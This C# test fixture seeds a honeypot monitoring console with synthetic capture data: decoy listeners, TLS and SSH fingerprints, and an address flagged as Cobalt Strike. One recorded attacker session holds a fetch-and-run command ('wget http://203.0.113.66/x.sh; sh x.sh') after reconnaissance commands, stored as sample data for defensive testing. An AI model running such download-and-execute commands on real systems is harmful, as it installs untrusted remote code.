using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using Whorl.Analysis.Identities;
using Whorl.Analysis.Journal;
using Whorl.Analysis.Rotations;
using Whorl.Delivery.WebConsole.Captures;
using Whorl.Delivery.WebConsole.Decoys;
using Whorl.Kernel;
using Whorl.Tests.WebConsole;

namespace Whorl.LiveTests.WebConsole;

/// <summary>Capture as on a working day: two interfaces, one of them away, and a few visitors; one of them was asked back and changed its server.</summary>
internal static class CapturedDay
{
    public const string Address = "203.0.113.140";

    public static async Task FillAsync(ConsoleHost host)
    {
        await RememberAsync(host);
        host.Services.GetRequiredService<DecoysLive>().Add("""
            {"node":"trap1","objects_full":true,"more":3,"places":[
              {"decoy":"bastion","persona":"web-server","service":"ssh","place":"198.51.100.1:22","listening":true,"open":14,"taken":18422,"turned_away":310},
              {"decoy":"bastion","persona":"web-server","service":"http","place":"198.51.100.1:443","listening":true,"open":2,"taken":901,"turned_away":0},
              {"decoy":"camera","persona":"camera","service":"telnet","place":"[2001:db8:4:0:5054:ff:fe3a:917c]:23","listening":false,"fault":"this machine does not have this address","hint":"`ip address` says which it has","open":0,"taken":0,"turned_away":0},
              {"decoy":"camera","persona":"camera","service":"snmp","place":"198.51.100.2:161","listening":true,"open":0,"taken":77120,"turned_away":5}]}
            """u8.ToArray());
        CaptureLive live = host.Services.GetRequiredService<CaptureLive>();
        live.AddSummaries(ConsoleHost.Batch(Made("capture.summary", 1, """
            {"capture.interfaces":[{"capture.interface":"decoys0","capture.state":"listening","capture.frames":184220,"capture.bytes":98133000,"capture.drops":12,"capture.observations":913,"capture.dropped":0,"capture.evictions":0,"capture.flows":4120},
             {"capture.interface":"eth1","capture.state":"failed","capture.reason":"there is no interface eth1","capture.hint":"`ip link` names the interfaces there are; set Capture:Interfaces"}]}
            """)));
        string[] sources = [Address, "198.51.100.23", "2001:db8:4::7a1", "192.0.2.200"];
        for (int i = 0; i < 120; i++)
        {
            string source = sources[i * 7 % 11 % 4], ends = $"\"source.ip\":\"{source}\",\"source.port\":{40000 + i},\"destination.ip\":\"198.51.100.{1 + (i % 5)}\",\"destination.port\":443,\"capture.interface\":\"decoys0\",\"decoy\":\"web-{i % 5}\"";
            (string kind, string facts) = (i % 5) switch
            {
                0 => ("tcp.syn", "\"tcp.signature\":\"4:57+7:0:1460:mss*20,7:mss,sok,ts,nop,ws:df,id+:0\",\"tcp.stack\":\"4:64:0:*:mss*20,7:mss,sok,ts,nop,ws:df,id+:0\",\"os.name\":\"Linux 3.11 and newer\",\"tcp.distance\":7"),
                1 => ("tls.client_hello", "\"tls.ja3\":\"cd08e31494f9531f560d64c695473da9\",\"tls.ja4\":\"t13d1516h2_8daaf6152771_02713d6af862\",\"tls.sni\":\"shop.example\""),
                2 => ("ssh.banner", "\"ssh.side\":\"client\",\"ssh.banner\":\"SSH-2.0-Go\""),
                3 => ("ssh.kex", "\"ssh.side\":\"client\",\"ssh.hassh\":\"98f63c4d9c87edbd97ed4747fa031019\",\"ssh.banner\":\"SSH-2.0-Go\",\"count\":37"),
                _ => ("icmp.echo_request", "\"icmp.version\":4,\"icmp.type\":8,\"icmp.code\":0"),
            };
            live.Newest.Add(ConsoleHost.Batch(Made(kind, 120 - i, $"{{{ends},{facts}}}", source)));
        }
    }

    private static async Task RememberAsync(ConsoleHost host)
    {
        DateTimeOffset now = TimeProvider.System.GetUtcNow();
        (string Address, string Kind, string Value)[] facts =
        [
            (Address, "decoy", "web-1"), (Address, "decoy", "bastion"), (Address, "label", "cobalt-strike"), (Address, "tls.ja4", "t13d1516h2_8daaf6152771_02713d6af862"),
            (Address, "tls.jarm", "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"), ("198.51.100.23", "decoy", "bastion"), ("198.51.100.23", "ssh.banner", "SSH-2.0-Go"),
            ("2001:db8:4::7a1", "decoy", "web-2"), ("2001:db8:4::7a1", "http.user_agent", "Mozilla/5.0 zgrab/0.x"),
        ];
        await host.Services.GetRequiredService<IdentityStore>().RecordAsync([.. facts.Select((fact, i) => new AddressFact(Parse(fact.Address), fact.Kind, fact.Value, now.AddMinutes(-i)))], default);
        RotationStore rotations = host.Services.GetRequiredService<RotationStore>();
        foreach ((string value, int hour) in (IEnumerable<(string, int)>)[("5ae5e7e4d6ec1ea0bdd2ae4d5d5ee5ca", 60), ("b003da101c8caf37ce9e3ca3cd9d049b", 20), ("b003da101c8caf37ce9e3ca3cd9d049b", 19), ("5ae5e7e4d6ec1ea0bdd2ae4d5d5ee5ca", 5), ("5ae5e7e4d6ec1ea0bdd2ae4d5d5ee5ca", 4)])
        {
            await rotations.RecordAsync([new(Parse(Address), 22, "hassh", value, now.AddHours(-hour), ObservationId.New(TimeProvider.System))], default);
        }

        await rotations.RecordAsync([new(Parse(Address), 443, "jarm", facts[4].Value, now.AddHours(-4), ObservationId.New(TimeProvider.System))], default);
        Observation[] told =
        [
            Made(DecoyKinds.SessionEnded, 300, $"{{\"source.ip\":\"{Address}\",\"decoy\":\"bastion\",\"service\":\"ssh\",\"session.duration_ms\":41200,\"session.attempts\":3,\"session.close\":\"client\",\"session.commands\":\"uname -a\\ncat /proc/cpuinfo | grep name\\ncd /tmp; wget http://203.0.113.66/x.sh; sh x.sh\"}}", Address),
            Made(FindingKinds.SignatureMatched, 200, $"{{\"source.ip\":\"{Address}\",\"signature.label\":\"cobalt-strike\",\"signature.kind\":\"jarm\",\"signature.value\":\"{facts[4].Value}\",\"signature.source\":\"README of salesforce/jarm (2020)\",\"target.port\":443}}", Address),
        ];
        foreach (Observation one in told)
        {
            await host.Services.GetRequiredService<JournalStore>().WriteAsync(new(one.Kind, 1, one.Id, one.Id, CloudEvents.WriteBatch([one])), default);
        }
    }

    private static PeerAddress Parse(string text) => PeerAddress.TryParse(text, out PeerAddress address) ? address : throw new ArgumentException(text, nameof(text));

    private static Observation Made(string kind, int secondsAgo, string attributes, string source = "") =>
        new(ObservationId.New(TimeProvider.System), kind, TimeProvider.System.GetUtcNow().AddSeconds(-secondsAgo), "edge1", new("ip:" + source), JsonElement.Parse(attributes));
}
